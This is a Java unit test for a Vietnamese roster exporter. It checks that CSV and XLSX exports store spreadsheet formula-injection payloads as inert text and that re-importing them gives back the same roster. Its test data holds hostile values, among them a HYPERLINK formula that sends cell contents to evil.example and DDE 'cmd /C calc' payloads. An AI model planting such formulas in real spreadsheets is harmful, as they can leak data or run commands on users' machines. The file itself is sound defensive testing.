package vn.vanban.memberlist;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Function;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import vn.vanban.roster.Membership;
import vn.vanban.roster.Person;
import vn.vanban.roster.Role;
import vn.vanban.roster.Roster;
import vn.vanban.roster.Team;
import vn.vanban.roster.form.MemberListForm;
import vn.vanban.roster.spreadsheet.RosterSheet;
import vn.vanban.roster.spreadsheet.RosterSheetMerge;
import vn.vanban.roster.spreadsheet.RosterSheetReader;
import vn.vanban.roster.spreadsheet.SampleRosters;

/**
 * Values a spreadsheet would run as formulas (OWASP CSV injection): the CSV keeps them as text behind an
 * apostrophe, the XLSX as text cells, and either imported back gives the very same roster, a value that
 * itself begins with an apostrophe included.
 */
class SpreadsheetInjectionTest {

    private static final Function<Team, String> NO_DECISIONS = t -> null;
    private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào\")",
            "+84 914 994 123", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "'Tổ trưởng cũ", "''hai dấu", "=1+1");

    /** Every hostile value as a member's name, and in the 2025 form as a note too. */
    private static Roster hostileRoster() {
        Roster sample = SampleRosters.hacThanh();
        List<Membership> members = new ArrayList<>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            String value = HOSTILE.get(i);
            members.add(new Membership("x" + i, i == 0 ? Role.LEADER : Role.MEMBER, false, false, null, null,
                    new Person(value, null, i == 1 ? value : null, null, false, false, value)));
        }
        List<Team> teams = new ArrayList<>(sample.teams());
        Team kp2 = teams.get(2);
        teams.set(2, kp2.withMembers(members));
        return new Roster(sample.communeCode(), sample.version(), sample.profile(), sample.villages(), teams, null);
    }

    @ParameterizedTest
    @EnumSource(MemberListForm.class)
    void aCsvShowsEveryFormulaAsTextAndReadsBackTheSameRoster(MemberListForm form) {
        Roster roster = hostileRoster();
        byte[] csv = SpreadsheetExports.csv(roster, form, false, NO_DECISIONS);
        String text = new String(csv, StandardCharsets.UTF_8);

        for (String line : text.split("\r\n")) {
            for (String field : line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
                String value = field.startsWith("\"") ? field.substring(1) : field;
                assertThat(value).as(line).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                        .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            }
        }
        assertThat(text).contains("'=HYPERLINK(").contains("'+84 914 994 123").contains(",''Tổ trưởng cũ,");

        assertSameRoster(roster, csv, form);
    }

    @ParameterizedTest
    @EnumSource(MemberListForm.class)
    void anXlsxKeepsEveryFormulaAsATextCellAndReadsBackTheSameRoster(MemberListForm form) throws Exception {
        Roster roster = hostileRoster();
        byte[] xlsx = SpreadsheetExports.xlsx(roster, form, false, NO_DECISIONS);

        String sheet = part(xlsx, "xl/worksheets/sheet1.xml");
        assertThat(sheet).doesNotContain("<f>").doesNotContain("<f ");
        assertThat(sheet).contains("<t xml:space=\"preserve\">=HYPERLINK(").contains(">&apos;Tổ trưởng cũ<");

        assertSameRoster(roster, xlsx, form);
    }

    @ParameterizedTest
    @ValueSource(strings = {"'0912345678", "'Tổ 1", "'", "Ông 'Ba'"})
    void anApostropheTheExporterDidNotWriteIsKept(String typed) {
        String csv = "Tên Tổ,Họ tên,Chức vụ,Ghi chú\r\nTổ 1,Lê An,Tổ trưởng," + typed + "\r\n";
        RosterSheet sheet = new RosterSheetReader().read(new ByteArrayInputStream(csv.getBytes(StandardCharsets.UTF_8)));
        assertThat(sheet.teams().get(0).members().get(0).note()).isEqualTo(typed);
    }

    private static void assertSameRoster(Roster roster, byte[] file, MemberListForm form) {
        RosterSheet sheet = new RosterSheetReader().read(new ByteArrayInputStream(file));
        RosterSheetMerge.Result result = new RosterSheetMerge().merge(roster, sheet, SampleRosters.COMMUNE);
        assertThat(sheet.form()).isEqualTo(form);
        assertThat(result.diff().isEmpty()).as(result.diff().toString()).isTrue();
        assertThat(result.roster()).isEqualTo(roster);
    }

    private static String part(byte[] zip, String name) throws Exception {
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                if (e.getName().equals(name)) {
                    ByteArrayOutputStream out = new ByteArrayOutputStream();
                    in.transferTo(out);
                    return out.toString(StandardCharsets.UTF_8);
                }
            }
        }
        throw new AssertionError("no " + name);
    }
}
